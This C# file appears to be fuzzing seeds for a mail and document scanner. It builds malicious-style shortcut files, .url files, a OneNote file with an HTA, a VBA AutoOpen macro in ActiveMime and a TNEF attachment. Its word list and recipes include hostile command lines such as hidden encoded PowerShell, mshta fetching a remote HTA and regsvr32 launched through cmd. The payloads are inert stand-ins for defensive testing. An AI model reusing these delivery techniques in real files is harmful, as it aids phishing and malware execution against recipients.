using System.IO.Compression;
using System.Text;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Fuzz.Documents;

internal static class LinkSeeds
{
    public static IReadOnlyList<string> Words { get; } =
    [
        "\u0014\0\u001fP", "cmd.exe", "powershell.exe -enc ", "-w hidden ", "mshta https://a.example/x.hta", "%COMSPEC%", "^", "&", "&&", "\\\\a.example@SSL\\x", "..\\", "\0", "                                ", "[InternetShortcut]\r\n", "URL=", "URL=file://a.example/x.exe", "IconFile=\\\\a.example\\i", "WorkingDirectory=", "[{000214A0-0000-0000-C000-000000000046}]", "Prop3=19,",
        "MIME-Version: 1.0\r\n", "Content-Type: multipart/related; boundary=\"x\"\r\n\r\n", "Content-Type: multipart/mixed; boundary=x\r\n\r\n", "--x\r\n", "--x--\r\n", "Content-Type: message/rfc822\r\n\r\n", "Content-Type: application/ms-tnef; name=winmail.dat\r\n", "Content-Transfer-Encoding: base64\r\n\r\n", "Content-Transfer-Encoding: quoted-printable\r\n\r\n",
        "Content-Transfer-Encoding: x-uuencode\r\n\r\n", "Content-Disposition: attachment; filename=\"a.js\"\r\n", "Content-Location: file:///C:/a/editdata.mso\r\n", "filename*0*=utf-8''%", "=?utf-8?B?", "?=", "begin 644 a\r\n", "Subject: ", "From: ", "\r\n\r\n", "\r\n", "ActiveMime", "x\u009c", "TVqQAAMAAAAEAAAA", "<html><a href='https://b.example/'>", "Message-ID: <a@b>\r\n",
        "Windows Registry", "onenote", ".hta", ".lnk",
    ];

    public static IReadOnlyList<byte[]> All()
    {
        var script = "WScript.Echo(1)"u8.ToArray();
        var link = Shortcut.Write(@"C:\Windows\System32\cmd.exe", "/c start /min regsvr32 /s ..\\note.ocx", show: 7);
        var project = new VbaProjectWriter().Module("M", "Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub\r\n").ToArray();
        byte[] mime = [.. "ActiveMime"u8, 0, 0, 1, 0xF0, .. new byte[16], 4, 0, .. new byte[18], .. Stored(project)];
        var web = "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Location: file:///C:/a/doc.htm\r\nContent-Type: text/html\r\n\r\n<html><a href='https://b.example/'>x</a></html>\r\n"
            + "--x\r\nContent-Location: file:///C:/a/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n" + Convert.ToBase64String(mime) + "\r\n--x--\r\n";
        var mail = "From: anna@sample.example\r\nTo: bo@sample.example\r\nSubject: Charts\r\nMessage-ID: <1@sample.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nSee https://a.example/1 password: 1234\r\n"
            + "--x\r\nContent-Type: application/octet-stream; name=a.lnk\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=a.lnk\r\n\r\n" + Convert.ToBase64String(link)
            + "\r\n--x\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n<form><input type=password>\r\n--x\r\nContent-Type: application/ms-tnef\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(Tnef(script)) + "\r\n--x--\r\n";
        return
        [
            Recipe.Raw("a.pdf.lnk", link), Recipe.Raw("b.lnk", Shortcut.Write(@"C:\x.exe", new string(' ', 300) + "-w hidden -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYgA=", behind: [.. "%PDF-1.4\n1 0 obj << >> endobj"u8, .. new byte[100]])),
            Recipe.Raw("c.lnk", [.. Shortcut.Write(@"\\a.example\share\x", "/k calc")[..^4], 0x14, 3, 0, 0, 1, 0, 0, 0xA0, .. Encoding.ASCII.GetBytes("%windir%\\x.exe"), .. new byte[774], 0, 0, 0, 0]),
            Recipe.Raw("a.url", "[InternetShortcut]\r\nURL=file://a.example@80/x.exe\r\nIconFile=\\\\a.example\\i.ico\r\nIconIndex=1\r\nWorkingDirectory=\\\\a.example\\x\r\n"),
            Recipe.Raw("b.url", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\nURL=https://a.example/\r\n"),
            Recipe.Raw("a.one", Notebook.Write("Double click to view", ("open.hta", "<html><script>new ActiveXObject('WScript.Shell')</script></html>"u8.ToArray()), ("b.js", script))),
            Recipe.Raw("a.one", Notebook.Write("x", ("a.lnk", link))),
            Recipe.Raw("report.doc", web), Recipe.Raw("editdata.mso", mime), Recipe.Raw("fwd.eml", mail), Recipe.Raw("winmail.dat", Tnef(script)),
            Recipe.Raw("b.eml", "From: a@b.example\r\nSubject: =?utf-8?B?w6Q=?=\r\nContent-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D\"https://a.example/\">=\r\n</a>\r\nbegin 644 a.js\r\n#0V%T\r\n`\r\nend\r\n"),
        ];
    }

    private static byte[] Stored(byte[] plain)
    {
        using var stream = new MemoryStream();
        using (var zlib = new ZLibStream(stream, CompressionLevel.NoCompression)) zlib.Write(plain);
        return stream.ToArray();
    }

    /// <summary>[MS-OXTNEF] 2.1: a signature, a key, then attributes with a level, a number, a length and the sum of their bytes.</summary>
    private static byte[] Tnef(byte[] content)
    {
        static byte[] Attribute(byte level, uint id, byte[] data) => [level, .. BitConverter.GetBytes(id), .. BitConverter.GetBytes(data.Length), .. data, .. BitConverter.GetBytes((ushort)data.Sum(b => b))];
        return
        [
            0x78, 0x9F, 0x3E, 0x22, 1, 0, .. Attribute(1, 0x00089006, [0, 0, 1, 0]), .. Attribute(1, 0x00069007, [0xE4, 4, 0, 0, 0, 0, 0, 0]), .. Attribute(1, 0x00078008, "IPM.Microsoft Mail.Note\0"u8.ToArray()),
            .. Attribute(1, 0x00018004, "Charts\0"u8.ToArray()), .. Attribute(1, 0x0002800C, "See https://a.example/\0"u8.ToArray()), .. Attribute(2, 0x00069002, [1, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0, 0, 0, 0, 0]),
            .. Attribute(2, 0x00018010, "a.js\0"u8.ToArray()), .. Attribute(2, 0x0006800F, content), .. Attribute(2, 0x00069005, [1, 0, 0, 0, 0x1E, 0, 7, 0x37, 1, 0, 0, 0, 5, 0, 0, 0, .. "b.js\0"u8, 0, 0, 0]),
        ];
    }
}
